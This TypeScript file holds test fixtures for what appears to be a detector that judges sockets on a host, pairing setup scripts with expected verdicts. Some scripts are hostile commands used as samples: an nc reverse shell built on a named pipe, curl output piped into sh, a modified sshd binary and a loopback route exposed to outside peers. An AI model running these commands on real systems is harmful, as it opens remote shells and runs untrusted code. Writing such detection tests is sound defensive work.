import {python, type Verdict} from './entry.ts';

/** A row of the specification's table of worked examples that takes real processes. */
export type WorkedExample = {
  readonly id: string;
  /** What owns it, in the words of the table. */
  readonly owner: string;
  /** As the script of an entry. */
  readonly script: string;
  /** As `judge.ts` writes it. */
  readonly socket: string;
  readonly holder: string;
  readonly verdict: Verdict;
  readonly rule: string;
  /** Check that must fail; where there is none, no check may. */
  readonly check?: string;
  /** Condition of sh(1) that holds once everything is as it must be. */
  readonly ready?: string;
  /** The program does not judge so yet. */
  readonly isPending?: true;
};

const https = 'tcp ESTABLISHED near:* far:443';

/** Arguments: tcp or udp, address and port of the peer. */
const connects = `cat > $script <<'END'
import socket, sys
kind = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}[sys.argv[1]]
s = socket.socket(socket.AF_INET, kind)
s.connect((sys.argv[2], int(sys.argv[3])))
s.recv(1)
END
`;

export const workedExamples: readonly WorkedExample[] = [
  {
    id: 'script-in-tmp',
    owner: 'python3 running /tmp/x.py',
    script: `script=/tmp/x.py\n${connects}exec python3 /tmp/x.py tcp $far 443`,
    socket: https,
    holder: python,
    verdict: 'suspect',
    rule: 'https-client',
    check: 'owner-script',
  },
  {
    id: 'code-from-standard-input',
    owner: 'python3, code from standard input',
    script: `script=/run/ordinary/code.py\n${connects}cat $script | python3 - tcp $far 443`,
    socket: https,
    holder: python,
    verdict: 'learn',
    rule: 'https-client',
    check: 'owner-script',
  },
  {
    id: 'curl-of-www-data',
    owner: '/usr/bin/curl of www-data',
    script: 'as www-data curl -sk https://$far/',
    socket: https,
    holder: 'curl',
    verdict: 'explained',
    rule: 'https-client',
  },
  {
    id: 'script-of-www-data',
    owner: 'python3 running /srv/app/x.py as www-data',
    script: `mkdir -p /srv/app\nscript=/srv/app/x.py\n${connects}as www-data python3 /srv/app/x.py tcp $far 443`,
    socket: https,
    holder: python,
    verdict: 'learn',
    rule: 'https-client',
    check: 'service-account',
  },
  {
    id: 'relay',
    owner: "nc, its output a pipe into sh, sh's into nc",
    script: 'mkfifo /root/back; sh -i < /root/back 2>&1 | nc.openbsd $far 443 > /root/back',
    socket: https,
    holder: 'nc.openbsd',
    verdict: 'suspect',
    rule: 'https-client',
    check: 'owner-relay',
    ready: "pgrep -xf 'sh -i'",
  },
  {
    id: 'feeds-a-shell',
    owner: 'curl, its output a pipe into sh',
    script: 'curl -sN http://$far/ | sh',
    socket: 'tcp ESTABLISHED near:* far:80',
    holder: 'curl',
    verdict: 'learn',
    rule: 'web-client',
    check: 'owner-relay',
    ready: 'pgrep -xf sh',
  },
  {
    id: 'sshd-of-no-package',
    owner: '/usr/local/sbin/sshd of root, no package owns it',
    script: `cp -p /usr/sbin/sshd /usr/local/sbin/sshd
exec /usr/local/sbin/sshd -D -o PidFile=none -o ListenAddress=$near`,
    socket: 'tcp LISTEN near:22',
    holder: 'sshd',
    verdict: 'learn',
    rule: 'ssh-server',
    check: 'owner-packaged',
  },
  {
    id: 'changed-sshd',
    owner: '/usr/sbin/sshd, not what openssh-server has',
    script: `until [ -e /usr/local/sbin/sshd ] && cmp -s /usr/sbin/sshd /usr/local/sbin/sshd; do sleep 0.1; done
cp -p /usr/sbin/sshd /usr/sbin/sshd.changed
echo >> /usr/sbin/sshd.changed
mv /usr/sbin/sshd.changed /usr/sbin/sshd
exec /usr/sbin/sshd -D -o PidFile=none -o ListenAddress=$near`,
    socket: 'tcp LISTEN near:22',
    holder: 'sshd',
    verdict: 'suspect',
    rule: 'ssh-server',
    check: 'owner-unchanged',
  },
  {
    id: 'dns-of-this-host',
    owner: 'python3; the peer is in resolv.conf',
    script: `script=/srv/dns.py\n${connects}exec python3 /srv/dns.py udp 203.0.113.254 53`,
    socket: 'udp ESTABLISHED near:* 203.0.113.254:53',
    holder: python,
    verdict: 'explained',
    rule: 'dns-client',
  },
  {
    id: 'dns-of-others',
    owner: 'python3; the peer is not a name server of this host',
    script: `script=/srv/other-dns.py\n${connects}exec python3 /srv/other-dns.py udp $far 53`,
    socket: 'udp ESTABLISHED near:* far:53',
    holder: python,
    verdict: 'learn',
    rule: 'dns-client',
    check: 'name-server',
  },
  {
    id: 'loopback-from-outside',
    owner: 'any; a peer outside reaches loopback, since route_localnet is on',
    script: `echo 1 > /proc/sys/net/ipv4/conf/eth0/route_localnet
outside sh -c '
echo 1 > /proc/sys/net/ipv4/conf/eth0/route_localnet
ip route del local 127.0.0.0/8 dev lo table local
ip route add 127.66.0.1/32 via 198.51.100.1 dev eth0'
nc.openbsd -lk 127.66.0.1 8080 & await 127.66.0.1 8080
outside nc.openbsd -d -s 203.0.113.1 127.66.0.1 8080`,
    socket: 'tcp ESTABLISHED 127.66.0.1:8080 far:*',
    holder: 'nc.openbsd',
    verdict: 'suspect',
    rule: 'loopback-peer',
    check: 'loopback-true',
  },
];
